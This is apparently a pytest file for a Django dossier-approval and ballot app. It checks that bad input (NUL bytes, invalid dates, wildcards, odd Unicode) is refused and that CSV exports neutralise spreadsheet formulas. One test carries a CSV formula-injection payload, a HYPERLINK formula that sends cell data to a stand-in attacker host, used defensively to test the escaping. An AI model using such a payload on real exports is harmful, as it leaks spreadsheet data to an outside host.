"""Bad input to the audit search (API, page, CSV/JSON), the flow chart, the dossier action forms,
the eligibility overrides and the ballot-open page: each a clear 4xx with a translated message,
and nothing written. CSV exports neutralise spreadsheet formulas (OWASP CSV injection)."""

import csv
import io

import pytest
from django.contrib.messages import get_messages
from django.test import Client
from django.utils.html import escape
from django.utils.translation import gettext

from approvals.ballots import BAD_CHOICE, UNKNOWN_NOMINEE
from approvals.models import BallotSession
from audit.filters import NO_COMMA, NOT_A_MOMENT
from audit.models import LedgerEvent
from audit.views import csv_cell
from dossiers import permissions
from dossiers.models import Bloc, CheckOverride, Dossier, DossierState
from tests.signin import signin
from tests.workflows.helpers import act, create, upload_required
from web.forms import (
    ACTION_INPUT_INVALID,
    BALLOT_TARGET_INVALID,
    BALLOT_YEAR_REQUIRED,
    DOSSIER_INVALID,
    NOMINEES_INVALID,
)
from workflows import policy

AUDIT_API = "/api/v1/audit/events/"
NUL = "Null characters are not allowed."
PYTHON_TEXT = ("invalid literal", "ValueError", "Traceback", "DoesNotExist", "not enough values")


def page_client(world, username: str) -> Client:
    client = Client()
    client.force_login(world.user(username))
    return client


def shows(response, message) -> bool:
    """The page carries the message as the user reads it (in the page's language, escaped)."""
    return escape(gettext(str(message))) in response.content.decode()


# --- audit search: the API -------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "since=2023-02-30",
        "until=2023-13-45",
        "since=yesterday",
        "since=2023-02-29T10:00:00",
        "since=2023-01-01T23:59:60Z",
        "until=2023-01-01T25:00:00",
        "since=2023-01-01%00",
        "dossier=1%00",
        "actor=pm%00",
        "organization=MTTQ%00",
        "action=submit%00",
        "object_type=%00",
        "organization=MTTQ,HND",
        "organization=" + "X" * 33,
    ],
)
def test_audit_api_refuses_a_bad_filter(api, nothing_written, query):
    with nothing_written():
        response = api("inspector").get(f"{AUDIT_API}?{query}")
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "invalid" and body["detail"]
    assert not any(text in body["detail"] for text in PYTHON_TEXT)


def test_audit_api_dates_say_what_they_take(api):
    body = api("inspector").get(f"{AUDIT_API}?since=2023-02-30").json()
    assert body["errors"] == {"since": [gettext(str(NOT_A_MOMENT))]}
    body = api("inspector").get(f"{AUDIT_API}?organization=MTTQ,HND").json()
    assert body["errors"] == {"organization": [gettext(str(NO_COMMA))]}


@pytest.mark.parametrize("value", ["(", "%", "_", ".*", "MTTQ|HND", "[", "\\", "'"])
def test_audit_organization_is_matched_literally(api, nothing_written, value):
    with nothing_written():
        response = api("inspector").get(AUDIT_API, {"organization": value})
    assert response.status_code == 200
    assert response.json()["count"] == 0


def test_audit_organization_matches_one_whole_item(api):
    events = LedgerEvent.objects.exclude(organizations="")
    expected = sum(1 for e in events if "HLHPN" in e.organizations.split(","))
    assert expected > 0
    body = api("inspector").get(AUDIT_API, {"organization": "HLHPN"}).json()
    assert body["count"] == expected
    assert all("HLHPN" in row["organizations"].split(",") for row in body["results"])
    # A prefix of a code, or another case, is not that code.
    assert api("inspector").get(AUDIT_API, {"organization": "HLHP"}).json()["count"] == 0
    assert api("inspector").get(AUDIT_API, {"organization": "hlhpn"}).json()["count"] == 0
    # T-MTTQ is not MTTQ.
    mttq = sum(1 for e in events if "MTTQ" in e.organizations.split(","))
    assert api("inspector").get(AUDIT_API, {"organization": "MTTQ"}).json()["count"] == mttq


@pytest.mark.parametrize("value", ["²", "١٢", "99999999999999999999999", "-1", "1.5"])
def test_audit_dossier_not_an_id_is_taken_as_a_reference(api, nothing_written, value):
    with nothing_written():
        response = api("inspector").get(AUDIT_API, {"dossier": value})
    assert response.status_code == 200
    assert response.json()["count"] == 0


def test_audit_dossier_by_id_or_reference(api):
    dossier = Dossier.objects.filter(state=DossierState.REVOKED).first()
    by_id = api("inspector").get(AUDIT_API, {"dossier": dossier.pk}).json()
    by_ref = api("inspector").get(AUDIT_API, {"dossier": dossier.reference}).json()
    assert by_id["count"] == by_ref["count"] == dossier.events.count() > 0


def test_audit_dates_still_search(api):
    everything = api("inspector").get(AUDIT_API).json()["count"]
    assert api("inspector").get(AUDIT_API, {"since": "2000-01-01"}).json()["count"] == everything
    assert api("inspector").get(AUDIT_API, {"until": "2000-01-01"}).json()["count"] == 0
    assert api("inspector").get(AUDIT_API, {"until": "9999-12-31"}).json()["count"] == everything
    # Year 1 east of UTC, year 9999 west of it: the edges of time, not an overflow.
    for params, count in [
        ({"since": "0001-01-01"}, everything),
        ({"since": "0001-01-01T00:00:00+07:00"}, everything),
        ({"until": "0001-01-01T00:00:00+07:00"}, 0),
        ({"until": "9999-12-31T23:59:59-07:00"}, everything),
        ({"since": "9999-12-31T23:59:59-07:00"}, 0),
        ({"since": "2000-01-01t00:00:00z"}, everything),
    ]:
        response = api("inspector").get(AUDIT_API, params)
        assert response.status_code == 200 and response.json()["count"] == count, params


# --- audit search: the page and its exports -------------------------------------------------


@pytest.mark.parametrize("fmt", ["", "csv", "json"])
@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("since=2023-02-30", NOT_A_MOMENT),
        ("until=2023-13-45", NOT_A_MOMENT),
        ("organization=A,B", NO_COMMA),
        ("actor=pm%00", NUL),
        ("dossier=%00", NUL),
    ],
)
def test_audit_page_shows_a_form_error_and_no_export(world, nothing_written, fmt, query, message):
    client = page_client(world, "inspector")
    with nothing_written():
        response = client.get(f"/audit/?{query}&format={fmt}")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    assert shows(response, message)


def test_audit_page_literal_organization_and_unicode_dossier(world):
    client = page_client(world, "inspector")
    for query in ("organization=(", "dossier=²", "organization=%25"):
        response = client.get(f"/audit/?{query}")
        assert response.status_code == 200
        assert response.context["page"].paginator.count == 0


# --- CSV formula injection --------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_neutralises_a_formula(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_cell_leaves_other_values_alone():
    assert csv_cell("Khen thưởng = tốt") == "Khen thưởng = tốt"
    assert csv_cell(12) == 12 and csv_cell(None) is None and csv_cell("") == ""


def test_csv_export_prefixes_a_formula_in_a_reason(world, api):
    officer = world.user("board-officer")
    dossier = next(
        d
        for d in Dossier.objects.filter(state=DossierState.INTAKE).order_by("pk")
        if "return" in policy.actions(officer, d)
    )
    reason = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
    response = api("board-officer").post(
        f"/api/v1/dossiers/{dossier.pk}/actions/return/", {"reason": reason}, format="json"
    )
    assert response.status_code == 200, response.content
    client = page_client(world, "inspector")
    export = client.get(f"/audit/?dossier={dossier.pk}&action=return&format=csv")
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert [row["reason"] for row in rows][-1] == "'" + reason
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    # The JSON export and the ledger keep the reason as it was given.
    data = client.get(f"/audit/?dossier={dossier.pk}&action=return&format=json").json()
    assert data[-1]["reason"] == reason


# --- the flow chart ---------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["²", "%00", "-1", "0", "1.5", "abc", "9" * 30])
def test_flow_chart_refuses_a_bad_dossier(world, nothing_written, value):
    client = page_client(world, "inspector")
    with nothing_written():
        response = client.get(f"/flow.svg?dossier={value}")
    assert response.status_code == 400
    assert response.content.decode() == gettext(str(DOSSIER_INVALID))


def test_flow_chart_still_draws(world):
    client = page_client(world, "inspector")
    assert client.get("/flow.svg").status_code == 200
    dossier = Dossier.objects.order_by("pk").first()
    assert client.get(f"/flow.svg?dossier={dossier.pk}").status_code == 200
    assert client.get("/flow.svg?dossier=").status_code == 200


# --- dossier actions on the page: the API's validation ------------------------------------------


def _intake_dossier(world) -> Dossier:
    officer = world.user("board-officer")
    return next(
        d
        for d in Dossier.objects.filter(state=DossierState.INTAKE).order_by("pk")
        if {"return", "accept"} <= set(policy.actions(officer, d))
    )


TOO_LONG = "Ensure this field has no more than {max_length} characters."


@pytest.mark.parametrize(
    ("action", "data", "field", "error"),
    [
        ("return", {"reason": "Thiếu\x00hồ sơ"}, "Reason", NUL),
        ("accept", {"reason": "\x00"}, "Reason", NUL),
        ("return", {"reason": "x" * 2001}, "Reason", (TOO_LONG, 2000)),
        ("accept", {"reason_code": "c" * 41}, "Reason code", (TOO_LONG, 40)),
        ("accept", {"reason_code": "a\x00"}, "Reason code", NUL),
        ("accept", {"request_key": "k\x00"}, None, NUL),
    ],
)
def test_dossier_action_page_refuses_bad_fields(
    world, api, nothing_written, action, data, field, error
):
    dossier = _intake_dossier(world)
    client = page_client(world, "board-officer")
    url = f"/dossiers/{dossier.pk}/actions/{action}/"
    with nothing_written():
        response = client.post(url, data, follow=True)
    assert response.redirect_chain == [(f"/dossiers/{dossier.pk}/", 302)]
    text = gettext(error[0]).format(max_length=error[1]) if isinstance(error, tuple) else error
    if field:
        expected = gettext(str(ACTION_INPUT_INVALID)) % {
            "field": gettext(field),
            "error": gettext(text),
        }
    else:
        expected = gettext(text)
    assert [str(m) for m in response.context["messages"]] == [expected]
    assert not any(t in response.content.decode() for t in PYTHON_TEXT)
    dossier.refresh_from_db()
    assert dossier.state == DossierState.INTAKE
    if "request_key" not in data:  # the API takes the key as a header
        with nothing_written():
            refused = api("board-officer").post(
                f"/api/v1/dossiers/{dossier.pk}/actions/{action}/", data, format="json"
            )
        assert refused.status_code == 400 and refused.json()["code"] == "invalid"
        assert refused.json()["errors"][next(iter(data))] == [gettext(text)]


# --- eligibility overrides on the dossier page: the same validation ---------------------------

OVERRIDE_REFERENCE = "MTTQ-2023-0002"  # its nominee's restriction check fails (open complaint)
OVERRIDE_NOMINEE = "Cán bộ Mặt trận minh họa"
ODD = "\u202e²\U000d046e😀 Nguyễn Thị Ệ"


def _override_url(action: str) -> tuple[Dossier, str, str]:
    dossier = Dossier.objects.get(reference=OVERRIDE_REFERENCE)
    nominee = dossier.nominees.get(name=OVERRIDE_NOMINEE)
    base = f"/dossiers/{dossier.pk}/nominees/{nominee.pk}/checks/restriction/"
    return dossier, f"{base}{action}/", f"/dossiers/{dossier.pk}/#checks-{nominee.pk}"


def _restriction_outcome(dossier: Dossier) -> str:
    nominee = dossier.nominees.get(name=OVERRIDE_NOMINEE)
    return next(c["outcome"] for c in nominee.checks if c["rule"] == "restriction")


@pytest.mark.parametrize(
    ("action", "persona", "data", "field", "error"),
    [  # a NUL in the reason reached PostgreSQL (a 500) before the page used the API's form
        ("override", "board-officer", {"reason": "Đơn nặc danh\x00"}, "Reason", NUL),
        ("override", "board-officer", {"reason": "\x00"}, "Reason", NUL),
        ("override", "board-officer", {"reason": "x" * 2001}, "Reason", (TOO_LONG, 2000)),
        ("override", "board-officer", {"reason": "Đã xác minh", "request_key": "k\x00"}, None, NUL),
        ("confirm", "board-head", {"reason": "Xác nhận\x00"}, "Reason", NUL),
    ],
)  # fmt: skip
def test_check_override_page_refuses_bad_fields(
    client, nothing_written, action, persona, data, field, error
):
    dossier, url, back = _override_url(action)
    if action == "confirm":  # a pending override to confirm, recorded before the count
        officer = Client()
        assert signin(officer, "board-officer")
        officer.post(_override_url("override")[1], {"reason": "Đơn nặc danh, không có căn cứ"})
    assert signin(client, persona)
    with nothing_written():
        response = client.post(url, data)
    assert (response.status_code, response["Location"]) == (302, back)
    text = gettext(error[0]).format(max_length=error[1]) if isinstance(error, tuple) else error
    expected = gettext(text)
    if field:
        expected = gettext(str(ACTION_INPUT_INVALID)) % {"field": gettext(field), "error": expected}
    assert [str(m) for m in get_messages(response.wsgi_request)] == [expected]
    assert _restriction_outcome(dossier) == "fail"


def test_check_override_page_keeps_an_odd_unicode_reason(db, client):
    dossier, url, back = _override_url("override")
    assert signin(client, "board-officer")
    response = client.post(url, {"reason": ODD})
    assert (response.status_code, response["Location"]) == (302, back)
    nominee = dossier.nominees.get(name=OVERRIDE_NOMINEE)
    assert CheckOverride.objects.get(nominee=nominee, rule="restriction").reason == ODD


# --- opening a ballot -------------------------------------------------------------------------


def _bloc_target(world) -> str:
    bloc_id, year = sorted(permissions.led_blocs(world.user("voter-MTTQ")))[0]
    return f"bloc:{bloc_id}-{year}"


@pytest.mark.parametrize(
    ("target", "nominees", "message"),
    [
        ("bloc:abc-2023", ["1"], BALLOT_TARGET_INVALID),
        ("x", ["1"], BALLOT_TARGET_INVALID),
        ("", ["1"], BALLOT_TARGET_INVALID),
        ("bloc:1-2023\x00", ["1"], BALLOT_TARGET_INVALID),
        (None, ["²"], NOMINEES_INVALID),
        (None, ["\x00"], NOMINEES_INVALID),
        (None, ["-3"], NOMINEES_INVALID),
        (None, ["9" * 30], NOMINEES_INVALID),
        (None, ["1", "abc"], NOMINEES_INVALID),
    ],
)
def test_ballot_open_refuses_bad_input(world, nothing_written, target, nominees, message):
    client = page_client(world, "voter-MTTQ")
    data = {"target": _bloc_target(world) if target is None else target, "nominees": nominees}
    with nothing_written():
        response = client.post("/ballots/new/", data)
    assert response.status_code == 400
    assert shows(response, message)
    assert not any(text in response.content.decode() for text in PYTHON_TEXT)


def test_ballot_open_refuses_a_bloc_not_led(world, nothing_written):
    led = {bloc_id for bloc_id, _year in permissions.led_blocs(world.user("voter-MTTQ"))}
    other = Bloc.objects.exclude(pk__in=led).order_by("pk").first()
    client = page_client(world, "voter-MTTQ")
    with nothing_written():
        response = client.post("/ballots/new/", {"target": f"bloc:{other.pk}-2023", "nominees": 1})
    assert response.status_code == 400 and shows(response, BALLOT_TARGET_INVALID)


@pytest.mark.parametrize(
    ("year", "message"),
    [("²", "Enter a whole number."), ("\x00", "Enter a whole number."), ("", BALLOT_YEAR_REQUIRED)],
)
def test_ballot_open_council_year(world, nothing_written, year, message):
    user = world.user("council-secretary")
    code = sorted(permissions.orgs_with_role(user, "council_secretary"))[0]
    client = page_client(world, "council-secretary")
    with nothing_written():
        response = client.post(
            "/ballots/new/", {"target": f"council:{code}", "year": year, "nominees": ["1"]}
        )
    assert response.status_code == 400 and shows(response, message)


def test_ballot_open_a_service_refusal_is_a_message(world, nothing_written):
    """Well-formed but unknown nominee: the service's own translated message, nothing written."""
    client = page_client(world, "voter-MTTQ")
    with nothing_written():
        response = client.post(
            "/ballots/new/", {"target": _bloc_target(world), "nominees": [str(2**40)]}
        )
    assert response.status_code == 400
    expected = gettext(str(UNKNOWN_NOMINEE)) % {"value": 2**40}
    assert [str(m) for m in response.context["messages"]] == [expected]


def test_ballot_open_page_still_opens_a_ballot(world, api):
    """The form takes what the page offers: the bloc the user leads and its waiting nominees."""
    nominee = {"kind": "collective", "name": "Tập thể HLHPN", "organization": "HLHPN"}
    dossier = create(api, "HLHPN", "BK-TTG", [nominee], year=2023)
    upload_required(api, "HLHPN", dossier, ["to_trinh", "bao_cao_thanh_tich"])
    dossier = act(api, "head-HLHPN", dossier, "submit")
    assert dossier["state"] == "bloc_voting"
    waiting = Dossier.objects.get(pk=dossier["id"])
    nominees = [n.pk for n in waiting.nominees.all()]
    client = page_client(world, "voter-MTTQ")
    target = f"bloc:{waiting.bloc_id}-2023"
    offered = [t.key for t in client.get("/ballots/new/").context["waiting"]]
    assert target in offered
    response = client.post("/ballots/new/", {"target": target, "nominees": nominees})
    assert response.status_code == 302
    session = BallotSession.objects.get(pk=response["Location"].rstrip("/").split("/")[-1])
    assert list(session.items.values_list("nominee_id", flat=True)) == nominees


# --- casting a ballot on its page: values the service checks before it writes -----------------


@pytest.mark.parametrize(
    ("choice", "value"),
    [("yes\x00", "yes\x00"), ("y" * 5000, "y" * 5000), (ODD, ODD), ("", "")],
    ids=["nul", "too_long", "odd_unicode", "blank"],
)
def test_ballot_page_refuses_a_bad_choice_and_writes_nothing(world, nothing_written, choice, value):
    session = BallotSession.objects.get(state="open", bloc__code="KHOI-CTXH-TW")
    nominees = sorted(session.items.values_list("nominee_id", flat=True))
    body = {f"choice_{n}": "yes" for n in nominees} | {f"choice_{nominees[0]}": choice}
    client = page_client(world, "voter-VUFO")
    with nothing_written():
        response = client.post(f"/ballots/{session.pk}/", body)
    assert (response.status_code, response["Location"]) == (302, f"/ballots/{session.pk}/")
    expected = gettext(str(BAD_CHOICE)) % {"value": f"{nominees[0]}: {value}"}
    assert [str(m) for m in get_messages(response.wsgi_request)] == [expected]
